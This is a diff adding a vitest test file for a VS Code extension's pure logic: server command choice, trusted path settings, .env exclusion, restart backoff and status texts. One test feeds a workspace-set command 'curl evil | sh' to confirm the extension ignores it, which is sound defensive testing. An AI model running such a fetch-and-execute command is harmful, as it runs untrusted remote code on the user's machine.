@@ -1,0 +1,137 @@
+/**
+ * The VS Code extension's pure parts (no vscode API): which server it starts (a workspace's
+ * `slipstream.server.command` is never used), which settings it takes from where, which documents
+ * get suggestions, the restart backoff, and the status texts the user reads.
+ */
+import { describe, expect, it } from 'vitest';
+import { documentEnabled, isDotenvFile, languageEnabled, toggledLanguages } from '../../../extension/src/language-gate.js';
+import { MAX_CRASHES, RestartPolicy } from '../../../extension/src/restart-policy.js';
+import { serverStart, setByWorkspace, trustedValue } from '../../../extension/src/server-command.js';
+import { statusBarText, statusRows } from '../../../extension/src/status-view.js';
+import type { StatusResult } from '../../../server/src/protocol.js';
+
+describe('serverStart', () => {
+  const bundled = '/ext/dist/server.js';
+
+  it('starts the bundled server when the user names no command', () => {
+    expect(serverStart(undefined, bundled)).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
+    expect(serverStart({ defaultValue: [] }, bundled)).toEqual({ kind: 'bundled', module: bundled, args: ['serve'] });
+  });
+
+  it('never runs a command that only a workspace sets', () => {
+    const fromRepo = { defaultValue: [], workspaceValue: ['bash', '-c', 'curl evil | sh'], workspaceFolderValue: ['sh'] };
+    expect(serverStart(fromRepo, bundled).kind).toBe('bundled');
+    expect(setByWorkspace(fromRepo)).toBe(true);
+    // the user's own command wins over both
+    expect(serverStart({ ...fromRepo, globalValue: ['node', '/opt/slipstream.js'] }, bundled)).toEqual({
+      kind: 'command',
+      command: 'node',
+      args: ['/opt/slipstream.js', 'serve', '--stdio'],
+    });
+  });
+
+  it('ignores a malformed user value', () => {
+    expect(serverStart({ globalValue: 'node x.js' }, bundled).kind).toBe('bundled');
+    expect(serverStart({ globalValue: ['node', 3] }, bundled).kind).toBe('bundled');
+  });
+});
+
+describe('trustedValue', () => {
+  it('takes path settings from the user or the default only; others as VS Code resolves them', () => {
+    const model = { defaultValue: '', globalValue: undefined, workspaceValue: '/repo/evil-model' };
+    expect(trustedValue(model, true, '/repo/evil-model')).toBe('');
+    expect(trustedValue({ ...model, globalValue: '/models/mine' }, true, '/repo/evil-model')).toBe('/models/mine');
+    expect(trustedValue({ defaultValue: 48, workspaceValue: 16 }, false, 16)).toBe(16);
+  });
+});
+
+describe('language gate', () => {
+  it('leaves out plain text, Markdown and .env files unless turned on', () => {
+    expect(languageEnabled(undefined, 'typescript')).toBe(true);
+    for (const id of ['plaintext', 'markdown', 'dotenv']) expect(languageEnabled(undefined, id)).toBe(false);
+    expect(languageEnabled({ markdown: true }, 'markdown')).toBe(true);
+    expect(languageEnabled({ python: false }, 'python')).toBe(false);
+    expect(documentEnabled(undefined, 'properties', '/w/.env')).toBe(false);
+    expect(documentEnabled(undefined, 'properties', '/w/app.properties')).toBe(true);
+    expect(documentEnabled({ dotenv: true }, 'properties', '/w/.env.local')).toBe(true);
+  });
+
+  it('recognises .env files by name', () => {
+    for (const f of ['/a/.env', '/a/.env.local', 'C:\\a\\prod.env']) expect(isDotenvFile(f)).toBe(true);
+    for (const f of ['/a/env.ts', '/a/.envrc', '/a/environment.json']) expect(isDotenvFile(f)).toBe(false);
+  });
+
+  it('toggles one language, keeping the others', () => {
+    expect(toggledLanguages({ python: false }, 'markdown')).toEqual({ python: false, markdown: true });
+    expect(toggledLanguages(undefined, 'typescript')).toEqual({ typescript: false });
+  });
+});
+
+describe('RestartPolicy', () => {
+  it('backs off 1, 2, 4, 8 s and gives up at the fifth crash within 3 minutes', () => {
+    let t = 0;
+    const p = new RestartPolicy(() => t);
+    const delays: number[] = [];
+    for (let i = 1; i < MAX_CRASHES; i++) {
+      const d = p.crashed();
+      if (!d.restart) throw new Error('gave up too early');
+      delays.push(d.delayMs);
+      t += 10_000;
+    }
+    expect(delays).toEqual([1000, 2000, 4000, 8000]);
+    const last = p.crashed();
+    expect(last.restart).toBe(false);
+    if (!last.restart) expect(last.message).toContain('will not be restarted');
+  });
+
+  it('forgets crashes older than the window, and a manual restart resets it', () => {
+    let t = 0;
+    const p = new RestartPolicy(() => t);
+    for (let i = 0; i < MAX_CRASHES - 1; i++) p.crashed();
+    t += 4 * 60_000;
+    expect(p.crashed()).toEqual({ restart: true, delayMs: 1000 });
+    p.reset();
+    expect(p.crashed()).toEqual({ restart: true, delayMs: 1000 });
+  });
+});
+
+const status: StatusResult = {
+  version: '0.1.0',
+  engine: {
+    state: 'ready',
+    model: { dir: '/x/fixtures/models/slipstream-code', source: 'default', architecture: 'llama', vocabSize: 4096, numLayers: 6, hiddenSize: 256, fim: true },
+    drafter: { dir: '/x/fixtures/models/slipstream-code-drafter', source: 'default' },
+    backend: 'auto',
+    backendInUse: 'cpu',
+    mode: 'redrafter',
+    modeSetting: 'auto',
+    modeDecision: { reason: 'auto: ReDrafter 0.20 ms/token vs plain 0.25 ms/token (1.25x) >= 1.1x', calibration: { tokens: 32, rounds: 3, arMsPerToken: 0.25, redrafterMsPerToken: 0.2, speedup: 1.25, ms: 140 } },
+    backends: [{ name: 'cpu', available: true }, { name: 'cuda', available: false, reason: 'no device: no NVIDIA driver (libcuda.so.1 not found)' }],
+    error: null,
+    sessions: 1,
+  },
+  cache: { hits: 2, misses: 5 },
+  latency: { count: 7, p50Ms: 11.2, p95Ms: 30.1, p99Ms: 30.1, lastMs: 12.6 },
+  requests: { total: 9, shown: 6, empty: 1, cached: 2, cancelled: 0, superseded: 0, stale: 0, errors: 0 },
+  events: { shown: 6, accepted: 1, partiallyAccepted: 0 },
+  documents: 1,
+};
+
+describe('status texts', () => {
+  it('status bar: model folder, backend in use, last latency; states otherwise', () => {
+    expect(statusBarText(status)).toBe('slipstream-code · cpu 13 ms');
+    expect(statusBarText({ ...status, engine: { ...status.engine, state: 'loading', model: null } })).toBe('Slipstream: loading model');
+    expect(statusBarText({ ...status, engine: { ...status.engine, state: 'error', error: { message: 'x', code: 'E' } } })).toBe('Slipstream: error');
+  });
+
+  it('Show Status: readable rows, not JSON', () => {
+    const rows = statusRows(status).map((r) => r.label);
+    expect(rows).toContain('Model: slipstream-code (shipped default)');
+    expect(rows).toContain('Drafter: slipstream-code-drafter (shipped default)');
+    expect(rows).toContain('Decoding: ReDrafter speculative decoding · setting auto');
+    expect(rows).toContain('Backend: cpu · setting auto');
+    expect(rows).toContain('Latency: last 13 ms · p50 11 ms · p95 30 ms · p99 30 ms');
+    expect(rows.join('\n')).not.toMatch(/[{}]/);
+    expect(statusRows(status).find((r) => r.label.startsWith('Backend'))?.detail).toContain('no NVIDIA driver');
+  });
+});
